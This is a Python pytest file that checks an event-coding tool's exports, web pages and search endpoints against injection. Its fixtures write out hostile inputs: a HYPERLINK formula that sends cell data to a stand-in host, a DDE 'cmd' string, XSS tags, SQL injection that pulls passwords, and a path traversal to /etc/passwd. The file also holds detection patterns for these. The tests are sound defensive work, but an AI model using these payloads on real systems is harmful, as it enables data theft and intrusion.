"""Reports whose words are formulas, tags or queries: what is written and shown holds them as words, nothing more."""

# ruff: noqa: E501
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

pytest.importorskip("ninja", reason="the reading room needs more: pip install 'communique[room]'")

from databases import new_database
from django.test import Client
from made import coding, collection, person
from typer.testing import CliRunner

from communique.export.html import to_html
from communique.export.writers import FORMATS, Options, open_writer
from communique.model import Coding
from communique.store import Record

FORMULA = '=HYPERLINK("http://h.example/?"&A1,"open")'
TAGS = "\"><script>alert(1)</script><img src=x onerror=alert(2)>'</title></textarea><svg/onload=alert(3)>"
QUERY = "'; DROP TABLE report; --"
NAMES = (
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTab",
    TAGS,
    QUERY,
    "{{ 7*7 }}{% now 'Y' %}",
    "%s%n\x1b[31m",
)
RUNS = re.compile(r"^[=+@\t\r]|^-(?!\d+(\.\d+)?$)")  # what a spreadsheet takes for a formula


def evil() -> Iterator[Coding]:
    """Reports in which every word that goes into a cell or a page is an attack."""
    for n, name in enumerate(NAMES):
        text = f"{name} met Bo. Report {n} of that day."
        yield coding(
            text, ("met", "meeting", (person(name, "PER"), person("Bo", "LSO")), None), publisher=name, instrument=name,
            path=f"{name[:20]}.txt",
        )  # fmt: skip


class Elements(HTMLParser):
    """What a browser would run or load in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script" and not (given.get("src") or given.get("type") == "application/json"):
            self.found.append(tag)
        self.found += [f"{tag} {key}" for key in given if key.startswith("on") or key == "srcdoc"]
        for key in ("href", "src", "action"):
            if re.match(r"\s*(javascript|data:text/html|vbscript)", given.get(key) or "", re.IGNORECASE):
                self.found.append(f"{tag} {key}={given[key]}")


def runs(page: str) -> list[str]:
    parser = Elements()
    parser.feed(page)
    return parser.found


def formulas(table: str, delimiter: str = ",") -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(table, newline=""), delimiter=delimiter)
        for cell in row
        if RUNS.match(cell)
    ]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def where(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A record of attacks among harmless reports, on either database."""
    place = str(tmp_path_factory.mktemp("evil") / "evil.db")
    if request.param == "postgresql":
        place = new_database(request.getfixturevalue("postgres"))
    with Record.open(place) as record:
        record.add([*evil(), *collection()])
    return place


@pytest.fixture
def client(where: str) -> Client:
    from communique.room import project

    project.open_room(where, author="AB")
    return Client(HTTP_HOST="localhost")


def written(name: str, table: str = "events") -> bytes:
    out = io.BytesIO()
    writer = open_writer(name, out, Options(table=table))
    for one in evil():
        writer.write(one)
    writer.close()
    return out.getvalue()


# --- files --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("table", ["events", "statements", "instruments", "people", "reports"])
def test_no_cell_of_a_csv_file_is_a_formula(table: str) -> None:
    assert formulas(written("csv", table).decode()) == []


def test_a_workbook_holds_no_formula_and_no_link() -> None:
    with zipfile.ZipFile(io.BytesIO(written("xlsx"))) as book:
        for name in book.namelist():
            assert not re.search(rb"<f>|<hyperlink|externalLink", book.read(name)), name


@pytest.mark.parametrize("name", sorted(set(FORMATS) - {"parquet", "xlsx"}))
def test_each_format_stays_whole_whatever_the_names(name: str) -> None:
    data = written(name).decode("utf-8")
    if name in ("jsonl", "plover", "annotation"):
        assert len([json.loads(line) for line in data.splitlines()]) >= len(NAMES)
    elif name == "json":
        assert len(json.loads(data)) == len(NAMES)
    elif name == "gdelt":
        assert {line.count("\t") for line in data.splitlines()} == {60}
    else:
        assert len({len(row) for row in csv.reader(io.StringIO(data, newline=""))}) == 1


def test_a_coding_in_a_notebook_runs_nothing() -> None:
    for one in evil():
        assert runs(to_html(one)) == []


@pytest.mark.parametrize("ending", ["csv", "xlsx", "html", "bib", "ris"])
def test_an_exported_record_runs_nothing(where: str, tmp_path: Path, ending: str) -> None:
    from communique.cli.app import app

    out = tmp_path / f"record.{ending}"
    done = CliRunner().invoke(app, ["export", "LSO", "PER", "--record", where, "-o", str(out)])
    assert done.exit_code == 0, done.output
    if ending == "xlsx":
        with zipfile.ZipFile(out) as book:
            assert not any(re.search(rb"<f>|<hyperlink", book.read(name)) for name in book.namelist())
    elif ending == "csv":
        assert formulas(out.read_text()) == []
    elif ending == "html":
        assert runs(out.read_text()) == []
    else:
        text = out.read_text()
        begins, ends = (r"^@\w+\{\w+,$", r"^\}$") if ending == "bib" else (r"^TY  - NEWS$", r"^ER  - $")
        entries = len(re.findall(begins, text, re.MULTILINE))
        assert entries == len(re.findall(ends, text, re.MULTILINE)) >= len(NAMES)
        assert "\x1b" not in text


@pytest.mark.slow
def test_the_room_as_files_runs_nothing_and_stays_in_its_folder(where: str, tmp_path: Path) -> None:
    from communique.cli.app import app

    folder = tmp_path / "room"
    done = CliRunner().invoke(app, ["site", str(folder), "--record", where])
    assert done.exit_code == 0, done.output
    assert [p.name for p in tmp_path.iterdir()] == ["room"]
    pages = sorted(folder.rglob("*.html"))
    assert len(pages) > 20
    assert [(page.name, found) for page in pages if (found := runs(page.read_text()))] == []
    assert [page.name for page in folder.rglob("*.csv") if formulas(page.read_text())] == []


# --- pages --------------------------------------------------------------------------------------------------------


def addresses(client: Client) -> Iterator[str]:
    """Every page of the room that leads to one of the attacks."""
    yield from ("/", "/events", "/people", "/instruments", "/reports", "/pairs", "/record", "/review", "/pairs/LSO-PER")
    for name in ("events", "reports", "people", "instruments"):
        for row in client.get(f"/{name}.json").json()[name]:
            yield row["address"]


def test_no_page_feed_or_table_of_the_room_runs_what_a_report_says(client: Client) -> None:
    seen = 0
    for address in addresses(client):
        answer = client.get(address)
        assert answer.status_code == 200, address
        assert runs(answer.content.decode()) == [], address
        assert "script-src 'self'" in answer["Content-Security-Policy"]
        seen += 1
    assert seen > 3 * len(NAMES)
    for table in ("/events.csv", "/people.csv", "/reports.csv", "/instruments.csv"):
        answer = client.get(table)
        text = answer.getvalue().decode()
        assert text.count("\n") > len(NAMES)
        assert formulas(text) == [], table
    import xml.etree.ElementTree as ET

    ET.fromstring(client.get("/index.atom").content)


# --- queries ------------------------------------------------------------------------------------------------------

QUERIES = [
    QUERY, "' OR 1=1 --", '" OR "a"="a', "a' UNION SELECT password FROM auth_user --", '"', "'", "NEAR(a b)", "a AND", "a*", "^a", "-a",
    "col:a", "(((", "*", "\\", "%", "_", "a & | ! b", "<->", ":*", "\x00", "\ud7ff", "é" * 5_000, "a " * 3_000, "../../etc/passwd", TAGS,
    FORMULA, "{{ 7*7 }}",
]  # fmt: skip


@pytest.mark.parametrize("query", QUERIES, ids=lambda query: ascii(query)[:30])
def test_what_is_searched_for_is_words_and_never_a_query(client: Client, where: str, query: str) -> None:
    before = client.get("/record.json").json()
    places = ("/reports", "/people", "/instruments", "/reports.json", "/events.csv", "/index.atom")
    keys = ("country", "kind", "year", "sort", "page", "since")
    for address, key in [*((place, "q") for place in places), *(("/events", key) for key in ("q", *keys))]:
        answer = client.get(address, {key: query})
        assert answer.status_code in (200, 400, 404), (address, key)
        if answer["Content-Type"].startswith("text/html"):
            assert runs(answer.content.decode()) == []
    assert client.get("/record.json").json() == before
    with Record.open(where) as record:
        assert isinstance(record.search(query), list)


@pytest.mark.parametrize("query", QUERIES, ids=lambda query: ascii(query)[:30])
def test_an_address_made_of_a_query_is_not_there(client: Client, query: str) -> None:
    from urllib.parse import quote

    for place in ("events", "reports", "people", "instruments", "pairs", "countries"):
        assert client.get(f"/{place}/{quote(query)}").status_code in (400, 404), place


def test_a_search_for_a_word_still_finds_it(client: Client) -> None:
    assert client.get("/reports.json", {"q": "Maseru"}).json()["reports"]
